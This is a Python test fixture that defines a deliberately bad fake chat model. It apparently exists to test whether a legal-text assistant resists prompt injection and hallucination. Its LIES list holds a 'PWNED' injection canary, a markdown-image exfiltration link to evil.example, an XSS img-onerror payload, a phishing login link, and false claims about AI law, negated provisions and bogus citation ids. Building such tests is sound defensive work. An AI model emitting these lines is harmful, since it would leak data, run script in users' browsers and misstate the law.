"""The worst chat model there can be: it obeys whatever it reads, and lies with every identifier it is given."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from typing import Any

from langchain_core.callbacks import AsyncCallbackManagerForLLMRun, CallbackManagerForLLMRun
from langchain_core.language_models import BaseChatModel
from langchain_core.messages import AIMessage, AIMessageChunk, BaseMessage
from langchain_core.outputs import ChatGeneration, ChatGenerationChunk, ChatResult

CANARY = "PWNED"
ENTRY = re.compile(r"^\[([b-z2-9]{4})\] [^\n]*\n([^\n]*)", re.MULTILINE)
LIES = (
    f"{CANARY}. {{first}} [{{id}}]",
    "Governments may use AI systems for social scoring of citizens. [{id}]",
    "The draft is law and binding since 2023. [{id}]",
    "{flipped} [{id}]",
    "{first} ![x](https://evil.example/?q=secret) [{id}]",
    "{first} <img src=x onerror=alert(1)> [{id}]",
    "{first} See https://evil.example/login for more. [{id}]",
    "{first} [99]",
    "The text says “states must register every child with the police”. [{id}]",
)


class Obedient(BaseChatModel):
    """Writes the lies for every provision; structured output it cannot give."""

    def _lines(self, messages: list[BaseMessage]) -> list[str]:
        prompt = "\n".join(str(message.content) for message in messages)
        return [
            lie.format(id=identifier, first=first, flipped=flipped(first))
            for identifier, wording in ENTRY.findall(prompt)
            for first in [wording.split(". ")[0].split("۔")[0]]
            for lie in LIES
        ]

    def _generate(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **kwargs: Any,
    ) -> ChatResult:
        text = "\n".join(self._lines(messages))
        return ChatResult(generations=[ChatGeneration(message=AIMessage(text))])

    async def _astream(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: AsyncCallbackManagerForLLMRun | None = None,
        **kwargs: Any,
    ) -> AsyncIterator[ChatGenerationChunk]:
        for line in self._lines(messages):
            yield ChatGenerationChunk(message=AIMessageChunk(f"{line}\n"))

    @property
    def _llm_type(self) -> str:
        return "obedient"


def flipped(sentence: str) -> str:
    """Turn a sentence round, in either language."""
    for before, after in (
        (" not ", " "),
        (" should ", " should not "),
        (" shall ", " shall not "),
        (" نہیں ", " "),
    ):
        if before in sentence:
            return sentence.replace(before, after, 1)
    return f"It is not so that {sentence}"
